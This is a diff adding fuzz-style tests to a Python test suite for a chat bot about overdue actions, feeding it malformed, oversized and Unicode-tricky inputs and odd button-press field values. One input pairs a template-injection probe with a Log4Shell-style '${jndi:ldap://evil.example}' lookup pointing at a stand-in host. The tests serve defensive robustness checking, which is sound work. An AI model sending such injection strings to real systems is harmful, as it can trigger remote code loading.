@@ -449,3 +449,64 @@ async def test_a_paper_of_no_plan_is_chosen_and_a_part_of_one_stays_an_answer(to
     assert "the plan's name" in part
     rows = told(await town.asha.says("could you write up a report on young carers in schools"))
     assert "the plan's name" in rows
+
+
+ODD_WORDS = (
+    "overdue " * 1_250,
+    "?" * 10_000,
+    "is it overdue" + " or" * 3_000 + " late?",
+    "anything about " + "\u202eevil\u202c " * 50,
+    "actions for \u200bAsha\u200b Pryce",
+    "who\u0301\u0302\u0303 is late",
+    "anything about 'AND OR NEAR(' * \" -",
+    'mentioning "*"',
+    'mentioning """',
+    "actions mentioning ^young NOT carers",
+    "recommendations mentioning %_%",
+    "due on 99/99/9999",
+    "due in the year 0000",
+    "due in 99999999999 weeks",
+    "top 99999999999999999999 overdue",
+    "overdue by more than 999999999 years",
+    "show rec 99999999999999999999 of young carers in schools",
+    "rec 1" + ", 1" * 2_000 + " of young carers in schools",
+    "recs 1 to 999999999 of young carers in schools",
+    "{{7*7}} overdue ${jndi:ldap://evil.example}",
+    "<at>Asha Pryce</at> overdue",
+    "٣ overdue ٣",
+    "مراجعة متأخرة",
+    "逾期的行动?",
+    "\ufeffoverdue",
+    "overdue\u2028overdue",
+    "👩‍👩‍👧‍👦 overdue?",
+)
+
+
+@pytest.mark.parametrize("text", ODD_WORDS, ids=lambda text: text[:20])
+async def test_no_question_puts_the_bot_at_fault(town: Town, text: str) -> None:
+    said = told(await town.cleo.says(text))
+    assert "fault" not in said.lower()
+    assert "reference" not in said.lower()
+    assert len(said) < 30_000
+
+
+@pytest.mark.parametrize(
+    "value", [None, "", "0", "-1", "9" * 400, "٣", "1.0", True, [1], {"a": 1}, "status\0", "__class__"]
+)
+async def test_no_press_on_an_answer_puts_the_bot_at_fault(town: Town, value: object) -> None:
+    card = await town.asha.says("which are slipped?")
+    mine = asked(town.council)[-1].id
+    for verb in (
+        "drop_filter",
+        "answer_page",
+        "open_row",
+        "list_them",
+        "export",
+        "take_meaning",
+        "send_reminders",
+        "record_for",
+    ):
+        for name in ("asked", "filter", "page", "rec", "format", "choice", "round"):
+            fine = {"asked": mine, "filter": "status", "page": 1, "rec": 1, "format": "csv", "choice": 1, "round": 1}
+            answer = await post_press(town, card.id, verb, {**fine, name: value})
+            assert "my fault" not in answer, (verb, name)
